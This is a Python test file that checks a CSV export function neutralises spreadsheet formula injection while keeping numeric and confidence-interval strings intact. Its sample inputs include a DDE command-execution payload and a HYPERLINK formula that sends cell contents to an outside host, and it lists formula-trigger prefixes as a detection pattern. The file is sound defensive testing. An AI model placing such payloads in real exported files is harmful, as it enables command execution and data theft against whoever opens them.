"""CSV files: what a spreadsheet would run as a formula is text, and numbers stay numbers."""

import csv
import io
import itertools
import math
import statistics

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ltrobust.analysis.schema.comparison import SeedDifference
from ltrobust.report import comparison
from ltrobust.runtime.spreadsheets import csv_text

FORMULAS = (
    '=HYPERLINK("http://example.org?"&A1)',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd",
    "-1+2",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\0=1+1",
    "\uff1d1+1",
    "--1",
    "-cat",
    "+",
    "-0.5 cats",
    "-1.2 [=A1, 3]",
)
NUMBERS = (
    *("-0.5", "+1.25", "-1,234", "-1e-05", "-", "-1.2 [-2.0, -0.3]", "+1.2 [-0.3, +2.0]", "-0.50 [-, -]", "0.5"),
    *("+1.20 ± 0.30", "-1.20 ± nan", "-1.20 ± 0.30 [-2.00, -0.40]"),
)


def read(text):
    """Cells as a spreadsheet reads them, which ends lines at carriage returns, too."""
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_is_written_as_text(formula):
    shown = "'" + formula.replace("\r", "\n")
    assert read(csv_text([["class", formula], [formula, "1"]])) == [["class", shown], [shown, "1"]]


@pytest.mark.parametrize("number", NUMBERS)
def test_a_number_stays_a_number(number):
    assert read(csv_text([[number, "cat"]])) == [[number, "cat"]]


@pytest.mark.parametrize("values", [(0.01, 0.02), (-0.01, -0.02), (-0.015,), (0.0, -0.0)])
def test_differences_over_seeds_stay_numbers(values):
    mean, sd = statistics.fmean(values), statistics.stdev(values) if len(values) > 1 else math.nan
    cells = comparison.seed_cells(SeedDifference(values, mean, sd, mean - 0.1, mean + 0.1, p=0.3, p_holm=0.6))
    assert read(csv_text([cells])) == [cells]


def test_values_that_are_no_text_are_written_as_they_are():
    assert csv_text([["loss", "step"], [-0.5, -3], ["", None]]) == "loss,step\n-0.5,-3\n,\n"


@given(st.lists(st.lists(st.text(st.characters(codec="utf-8")) | st.sampled_from(FORMULAS + NUMBERS), min_size=2)))
def test_no_cell_of_any_text_begins_like_a_formula(rows):
    written = read(csv_text(rows))
    shown = [[cell.replace("\r", "\n") for cell in row] for row in rows]
    assert [len(row) for row in written] == [len(row) for row in rows]
    for cell, text in zip(itertools.chain(*written), itertools.chain(*shown), strict=True):
        assert cell in (text, f"'{text}")
        assert not cell.startswith(tuple("=@\uff1d\uff0b\uff0d\uff20\t\r\n\0")), cell
        assert not cell.startswith(("+", "-")) or cell == "-" or cell[1].isdecimal(), cell
